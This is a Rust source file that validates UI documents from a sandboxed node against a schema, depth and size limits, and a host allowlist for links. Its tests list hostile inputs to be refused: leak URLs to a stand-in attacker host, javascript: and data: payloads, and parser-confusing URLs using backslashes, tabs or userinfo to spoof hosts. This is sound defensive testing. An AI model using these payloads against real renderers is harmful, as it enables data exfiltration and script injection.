//! The `a2ui` capability: UI documents the node emits, checked against the a2ui schema, their
//! nesting and their links, capped in total bytes per run, and delivered to the embedder's UI
//! sink.

use crate::bindings::warden::node::a2ui;
use crate::bindings::wit::HostError;
use crate::output::delivery::Delivery;
use crate::policy::allowlist::AllowedHosts;
use crate::policy::limits::HostLimits;
use serde_json::Value as Json;
use std::sync::OnceLock;
use wasmtime::component::{HasData, Linker};

/// What `a2ui` may touch: the bytes rendered so far, the limits, the allowlist that links must
/// stay inside, and the delivery.
pub(crate) struct View<'a> {
    pub rendered_bytes: &'a mut usize,
    pub limits: &'a HostLimits,
    pub allowed: &'a AllowedHosts,
    pub delivery: &'a Delivery,
}

struct A2ui;

impl HasData for A2ui {
    type Data<'a> = View<'a>;
}

/// What the store data lends the a2ui host functions: their view, and nothing else.
pub(crate) trait A2uiView: Send + 'static {
    fn a2ui(&mut self) -> View<'_>;
}

pub(crate) fn link<T: A2uiView>(linker: &mut Linker<T>, interface: &str) -> wasmtime::Result<bool> {
    match interface {
        "warden:node/a2ui" => a2ui::add_to_linker::<T, A2ui>(linker, T::a2ui)?,
        _ => return Ok(false),
    }
    Ok(true)
}

impl a2ui::Host for View<'_> {
    fn render(&mut self, document: String) -> Result<(), HostError> {
        let total = self.rendered_bytes.saturating_add(document.len());
        if total > self.limits.ui_bytes {
            return Err(HostError::TooLarge(format!(
                "this run has rendered {} bytes of UI documents; the host accepts at most {}",
                self.rendered_bytes, self.limits.ui_bytes
            )));
        }
        let document = validate_ui(&document, self.allowed)
            .map_err(|error| HostError::Invalid(format!("the UI document is invalid: {error}")))?;
        *self.rendered_bytes = total;
        self.delivery.ui(document);
        Ok(())
    }
}

/// The a2ui schema, shipped in docs/ and compiled in.
pub const A2UI_SCHEMA: &str = include_str!("../../../docs/a2ui.schema.json");
/// The largest UI document accepted, in bytes.
pub const MAX_UI_BYTES: usize = 256 * 1024;
/// The deepest nesting of a UI document.
pub const MAX_UI_DEPTH: usize = 32;

/// Why a UI document is refused.
#[derive(Debug, thiserror::Error)]
pub enum UiError {
    #[error("the document is {0} bytes; at most {MAX_UI_BYTES}")]
    TooLarge(usize),
    #[error("the document is not JSON: {0}")]
    NotJson(#[source] serde_json::Error),
    /// Where in the document (a JSONPath such as `$.root.children[0]`) and what is wrong.
    #[error("{path}: {problem}")]
    Invalid { path: String, problem: String },
    /// The compiled-in schema uses what this checker does not support: a bug of the host.
    #[error("the a2ui schema is broken: {0}")]
    BrokenSchema(String),
}

fn invalid(path: &str, problem: impl Into<String>) -> UiError {
    UiError::Invalid {
        path: path.to_string(),
        problem: problem.into(),
    }
}

/// The compiled-in schema, parsed once.
fn schema() -> Result<&'static Json, UiError> {
    static SCHEMA: OnceLock<Result<Json, String>> = OnceLock::new();
    SCHEMA
        .get_or_init(|| serde_json::from_str(A2UI_SCHEMA).map_err(|error| error.to_string()))
        .as_ref()
        .map_err(|error| UiError::BrokenSchema(error.clone()))
}

/// Checks a UI document against the a2ui schema, its nesting against [`MAX_UI_DEPTH`], and
/// its links: an image `src` must be an https URL that `allowed` lets the node reach, and a
/// button `action` an event name (letters, digits, `_`, `-`, `.`) or such a URL, so a
/// document cannot point the embedder anywhere the node itself may not go.
pub fn validate_ui(document: &str, allowed: &AllowedHosts) -> Result<Json, UiError> {
    if document.len() > MAX_UI_BYTES {
        return Err(UiError::TooLarge(document.len()));
    }
    let value: Json = serde_json::from_str(document).map_err(UiError::NotJson)?;
    let schema = schema()?;
    check(schema, schema, &value, "$", 0)?;
    if let Some(root) = value.get("root") {
        check_widget(root, "$.root", 1, allowed)?;
    }
    Ok(value)
}

/// Checks the nesting and the links of a widget (already valid against the schema).
fn check_widget(
    widget: &Json,
    path: &str,
    depth: usize,
    allowed: &AllowedHosts,
) -> Result<(), UiError> {
    if depth > MAX_UI_DEPTH {
        return Err(invalid(
            path,
            format!("widgets nested deeper than {MAX_UI_DEPTH} levels"),
        ));
    }
    if let Some(src) = widget.get("src").and_then(Json::as_str) {
        check_link(src, allowed).map_err(|why| invalid(&format!("{path}.src"), why))?;
    }
    if let Some(action) = widget.get("action").and_then(Json::as_str) {
        let event_name = !action.is_empty()
            && action
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'));
        if !event_name {
            check_link(action, allowed).map_err(|why| {
                invalid(
                    &format!("{path}.action"),
                    format!("not an event name (letters, digits, _ - .) and {why}"),
                )
            })?;
        }
    }
    let children = widget.get("children").and_then(Json::as_array);
    for (index, child) in children.into_iter().flatten().enumerate() {
        check_widget(
            child,
            &format!("{path}.children[{index}]"),
            depth + 1,
            allowed,
        )?;
    }
    Ok(())
}

/// An https URL to a host the node may reach, written so that every URL parser reads the
/// same host: it begins with `https://`, and holds no backslash (which WHATWG parsers read as
/// `/` and others as part of the authority), no whitespace and no control characters (which
/// WHATWG parsers drop or trim and others keep).
fn check_link(url: &str, allowed: &AllowedHosts) -> Result<(), String> {
    let plain = url
        .get(..8)
        .is_some_and(|start| start.eq_ignore_ascii_case("https://"))
        && !url
            .chars()
            .any(|c| c == '\\' || c.is_whitespace() || c.is_control());
    if !plain {
        return Err(format!(
            "`{}` is not a plain https URL (one that begins with https:// and holds no \
             backslash, whitespace or control character); UI documents may link only to \
             such URLs in the node's allowed_hosts",
            url.chars().take(100).collect::<String>()
        ));
    }
    allowed
        .check_url(url)
        .map(|_| ())
        .map_err(|denied| denied.to_string())
}

/// A JSON Schema subset: `$ref` (to `#/definitions/…`), `type`, `enum`, `required`,
/// `properties`, `additionalProperties: false`, `items`, `maxItems`, `maxLength`.
fn check(
    root: &Json,
    schema: &Json,
    value: &Json,
    path: &str,
    depth: usize,
) -> Result<(), UiError> {
    // A widget level costs a few steps (property, array item, $ref); `check_widget` counts
    // the documented levels, this only keeps the recursion bounded.
    if depth > MAX_UI_DEPTH * 4 + 8 {
        return Err(invalid(
            path,
            format!("nested deeper than {MAX_UI_DEPTH} levels"),
        ));
    }
    if let Some(reference) = schema.get("$ref").and_then(Json::as_str) {
        let name = reference
            .strip_prefix("#/definitions/")
            .ok_or_else(|| UiError::BrokenSchema(format!("unsupported $ref {reference}")))?;
        let target = root
            .get("definitions")
            .and_then(|d| d.get(name))
            .ok_or_else(|| UiError::BrokenSchema(format!("unknown $ref {reference}")))?;
        return check(root, target, value, path, depth + 1);
    }
    if let Some(kind) = schema.get("type").and_then(Json::as_str) {
        let ok = match kind {
            "object" => value.is_object(),
            "array" => value.is_array(),
            "string" => value.is_string(),
            "number" => value.is_number(),
            "boolean" => value.is_boolean(),
            _ => false,
        };
        if !ok {
            return Err(invalid(path, format!("expected {kind}")));
        }
    }
    if let Some(allowed) = schema.get("enum").and_then(Json::as_array)
        && !allowed.contains(value)
    {
        return Err(invalid(
            path,
            format!("{value} is not one of {}", Json::Array(allowed.clone())),
        ));
    }
    if let (Some(max), Some(text)) = (
        schema.get("maxLength").and_then(Json::as_u64),
        value.as_str(),
    ) && text.chars().count() as u64 > max
    {
        return Err(invalid(path, format!("longer than {max} characters")));
    }
    if let Some(object) = value.as_object() {
        let properties = schema.get("properties").and_then(Json::as_object);
        for required in schema
            .get("required")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
        {
            if let Some(name) = required.as_str()
                && !object.contains_key(name)
            {
                return Err(invalid(path, format!("`{name}` is required")));
            }
        }
        for (name, field) in object {
            match properties.and_then(|p| p.get(name)) {
                Some(field_schema) => check(
                    root,
                    field_schema,
                    field,
                    &format!("{path}.{name}"),
                    depth + 1,
                )?,
                None if schema.get("additionalProperties") == Some(&Json::Bool(false)) => {
                    return Err(invalid(path, format!("`{name}` is not allowed here")));
                }
                None => {}
            }
        }
    }
    if let Some(items) = value.as_array() {
        if let Some(max) = schema.get("maxItems").and_then(Json::as_u64)
            && items.len() as u64 > max
        {
            return Err(invalid(path, format!("more than {max} items")));
        }
        if let Some(item_schema) = schema.get("items") {
            for (index, item) in items.iter().enumerate() {
                check(
                    root,
                    item_schema,
                    item,
                    &format!("{path}[{index}]"),
                    depth + 1,
                )?;
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn valid_documents_pass() {
        let document = r#"{"version":"0.1","root":{"type":"column","children":[
            {"type":"heading","text":"Hello"},{"type":"input","bind":"name"},{"type":"button","text":"Go","action":"submit"}]}}"#;
        assert!(validate_ui(document, &AllowedHosts::default()).is_ok());
    }

    fn nested(levels: usize) -> String {
        let mut deep = String::from(r#"{"version":"0.1","root":"#);
        for _ in 1..levels {
            deep.push_str(r#"{"type":"column","children":["#);
        }
        deep.push_str(r#"{"type":"text"}"#);
        for _ in 1..levels {
            deep.push_str("]}");
        }
        deep.push('}');
        deep
    }

    #[test]
    fn the_documented_depth_is_the_enforced_one() {
        let none = AllowedHosts::default();
        assert!(validate_ui(&nested(MAX_UI_DEPTH), &none).is_ok());
        let error = validate_ui(&nested(MAX_UI_DEPTH + 1), &none).unwrap_err();
        assert!(
            error.to_string().contains("nested deeper than 32"),
            "{error}"
        );
    }

    #[test]
    fn links_stay_inside_the_allowlist_and_https() {
        let allowed = AllowedHosts::parse(&["images.example.com"]).unwrap();
        let with = |field: &str, value: &str| {
            let widget = serde_json::json!({"type": "image", field: value});
            serde_json::json!({"version": "0.1", "root": widget}).to_string()
        };
        let good = [
            ("src", "https://images.example.com/a.png"),
            ("action", "submit"),
            ("action", "form.save-2"),
            ("action", "https://images.example.com/go"),
        ];
        for (field, value) in good {
            assert!(
                validate_ui(&with(field, value), &allowed).is_ok(),
                "{field}={value}"
            );
        }
        let bad = [
            ("src", "https://evil.example.net/leak?data=secret"),
            ("src", "http://images.example.com/a.png"),
            ("src", "javascript:alert(1)"),
            ("src", " JavaScript:alert(1)"),
            ("src", "data:text/html,<script>"),
            ("src", "//evil.example.net/x"),
            ("src", "https://images.example.com@evil.example.net/"),
            ("action", "javascript:fetch('https://evil.example.net')"),
            ("action", "https://evil.example.net/"),
            ("action", "http://images.example.com/"),
            ("action", ""),
        ];
        for (field, value) in bad {
            let error = validate_ui(&with(field, value), &allowed).unwrap_err();
            assert!(
                error.to_string().contains(field),
                "{field}={value}: {error}"
            );
        }
    }

    /// A WHATWG parser (the url crate, browsers) reads `\\` as `/`, drops tabs and newlines and
    /// trims spaces; other parsers an embedder may use (Python's urllib, for one) do not, and
    /// read `https://images.example.com\\@evil.example.net/` as a link to evil.example.net.
    /// Links are refused unless every parser reads them alike.
    #[test]
    fn links_that_parsers_read_differently_are_refused() {
        let allowed = AllowedHosts::parse(&["images.example.com"]).unwrap();
        let with = |field: &str, value: &str| {
            let widget = serde_json::json!({"type": "image", field: value});
            serde_json::json!({"version": "0.1", "root": widget}).to_string()
        };
        let bad = [
            ("src", "https://images.example.com\\@evil.example.net/a.png"),
            ("action", "https://images.example.com\\@evil.example.net/"),
            ("src", "https://images.example.com\\evil.example.net/"),
            ("src", "https://evil.example.net\t@images.example.com/"),
            ("src", "https://images.exa\nmple.com/"),
            ("src", " https://images.example.com/"),
            ("src", "https://images.example.com/ \u{0}"),
            ("src", "https:images.example.com/a.png"),
            ("src", "https:/images.example.com/a.png"),
        ];
        for (field, value) in bad {
            let result = validate_ui(&with(field, value), &allowed);
            assert!(result.is_err(), "{field}={value:?} passed");
        }
        assert!(
            validate_ui(
                &with("src", "HTTPS://images.example.com/a%20b.png"),
                &allowed
            )
            .is_ok()
        );
    }

    #[test]
    fn invalid_documents_say_where() {
        let cases = [
            ("not json", "not JSON"),
            (r#"{"root":{"type":"text"}}"#, "`version` is required"),
            (
                r#"{"version":"0.2","root":{"type":"text"}}"#,
                "is not one of",
            ),
            (
                r#"{"version":"0.1","root":{"type":"marquee"}}"#,
                "$.root.type",
            ),
            (
                r#"{"version":"0.1","root":{"type":"text","onclick":"x"}}"#,
                "`onclick` is not allowed",
            ),
            (
                r#"{"version":"0.1","root":{"type":"row","children":[{"type":7}]}}"#,
                "$.root.children[0].type: expected string",
            ),
        ];
        let none = AllowedHosts::default();
        for (document, expected) in cases {
            let error = validate_ui(document, &none).unwrap_err();
            assert!(error.to_string().contains(expected), "{document}: {error}");
        }
        assert!(
            validate_ui(&nested(60), &none)
                .unwrap_err()
                .to_string()
                .contains("nested deeper")
        );
        assert!(validate_ui(&"x".repeat(MAX_UI_BYTES + 1), &none).is_err());
    }
}
